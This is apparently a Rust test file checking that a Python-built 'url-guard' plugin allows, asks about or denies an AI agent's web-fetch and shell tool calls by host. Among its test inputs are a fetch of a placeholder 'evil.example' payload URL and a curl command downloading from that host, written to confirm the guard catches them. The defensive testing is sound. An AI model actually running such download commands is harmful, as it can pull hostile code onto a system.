//! Plugins in languages other than Rust, built from source: the WIT contract works outside
//! the Rust SDK.

use palisade::{Host, PreToolDecision, ToolCall};
use palisade_tests::PluginDir;
use serde_json::json;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::OnceLock;

fn workspace() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .unwrap()
        .to_path_buf()
}

/// componentize-py: `$PALISADE_COMPONENTIZE_PY`, the copy `scripts/tools.sh` installs into
/// target/tools, or one on PATH.
fn componentize_py() -> PathBuf {
    let candidates = [
        std::env::var_os("PALISADE_COMPONENTIZE_PY").map(PathBuf::from),
        Some(workspace().join("target/tools/venv/bin/componentize-py")),
        Some(PathBuf::from("componentize-py")),
    ];
    for candidate in candidates.into_iter().flatten() {
        if Command::new(&candidate)
            .arg("--version")
            .output()
            .is_ok_and(|o| o.status.success())
        {
            return candidate;
        }
    }
    panic!(
        "componentize-py is not installed. Run `scripts/tools.sh` (installs it into \
         target/tools/venv), or `pip install componentize-py==0.25.1`, or set \
         PALISADE_COMPONENTIZE_PY to its path."
    );
}

/// example-plugins/url-guard, built from its Python source by its `build.sh` (componentize-py)
/// once per test run (some 20 CPU-seconds a build): the component's bytes.
fn url_guard_component() -> &'static [u8] {
    static BUILT: OnceLock<Vec<u8>> = OnceLock::new();
    BUILT.get_or_init(|| {
        let out = tempfile::tempdir().unwrap();
        let wasm = out.path().join("url_guard.wasm");
        let output = Command::new(workspace().join("example-plugins/url-guard/build.sh"))
            .arg(&wasm)
            .env("COMPONENTIZE_PY", componentize_py())
            .output()
            .expect("example-plugins/url-guard/build.sh runs");
        assert!(
            output.status.success(),
            "example-plugins/url-guard/build.sh failed:\n{}",
            String::from_utf8_lossy(&output.stderr)
        );
        std::fs::read(&wasm).unwrap()
    })
}

/// url-guard (built from source) as a plugin folder of `dir`, its `[config]` replaced by
/// `config` unless that is empty.
fn build_url_guard(dir: &PluginDir, config: &str) {
    let source = workspace().join("example-plugins/url-guard");
    let folder = dir.path().join("url-guard");
    std::fs::create_dir_all(&folder).unwrap();
    std::fs::write(folder.join("url_guard.wasm"), url_guard_component()).unwrap();
    let manifest = std::fs::read_to_string(source.join("plugin.toml")).unwrap();
    let manifest = match manifest.split_once("[config]") {
        Some((head, _)) if !config.is_empty() => format!("{head}[config]\n{config}"),
        _ => manifest,
    };
    std::fs::write(folder.join("plugin.toml"), manifest).unwrap();
}

fn fetch(url: &str) -> ToolCall {
    ToolCall::new(
        "t",
        "WebFetch",
        json!({ "url": url, "prompt": "summarise" }),
    )
}

fn bash(command: &str) -> ToolCall {
    ToolCall::new("t", "Bash", json!({ "command": command }))
}

#[tokio::test]
async fn python_guard_allows_listed_hosts_and_asks_or_denies_others() {
    let dir = PluginDir::new();
    build_url_guard(&dir, "");
    // The cache the cli tests compile their Python and JavaScript plugins through: a
    // componentize-py build is never the same file twice, but most of its functions are
    // those of every other build, compiled once.
    let cache = Path::new(env!("CARGO_TARGET_TMPDIR")).join("languages-cache");
    let host = Host::builder().cache_dir(&cache).build().unwrap();
    let plugins = host.load_dir(dir.path()).unwrap();
    assert_eq!(plugins.iter().next().unwrap().manifest().name, "url-guard");
    let session = plugins.session("s");

    assert_eq!(
        session.pre_tool(&fetch("https://docs.rs/tokio")).await,
        PreToolDecision::Allow
    );
    assert_eq!(
        session
            .pre_tool(&fetch("https://api.github.com/repos"))
            .await,
        PreToolDecision::Allow
    );
    assert_eq!(
        session.pre_tool(&bash("ls -la")).await,
        PreToolDecision::Allow
    );
    match session
        .pre_tool(&fetch("https://evil.example/payload"))
        .await
    {
        PreToolDecision::Ask(ask) => {
            assert_eq!(ask.hook_id, "url-guard/pre-tool");
            assert!(ask.reason.contains("evil.example"), "{}", ask.reason);
        }
        other => panic!("expected ask, got {other:?}"),
    }
    assert!(matches!(
        session
            .pre_tool(&bash("curl -s https://evil.example/x -o x"))
            .await,
        PreToolDecision::Ask(_)
    ));

    // The same component, configured to deny.
    let dir = PluginDir::new();
    build_url_guard(
        &dir,
        "allowed_hosts = [\"docs.rs\"]\nunknown_host = \"deny\"\n",
    );
    let plugins = host.load_dir(dir.path()).unwrap();
    let session = plugins.session("s");
    let decision = session.pre_tool(&fetch("https://github.com/x")).await;
    let denial = decision.denial().expect("a denial");
    assert_eq!(denial.reason_code, "host-not-allowed");
    assert_eq!(
        denial.payload,
        Some(json!({ "url": "https://github.com/x", "host": "github.com" }))
    );
    assert_eq!(
        session.pre_tool(&fetch("https://docs.rs/serde")).await,
        PreToolDecision::Allow
    );
}
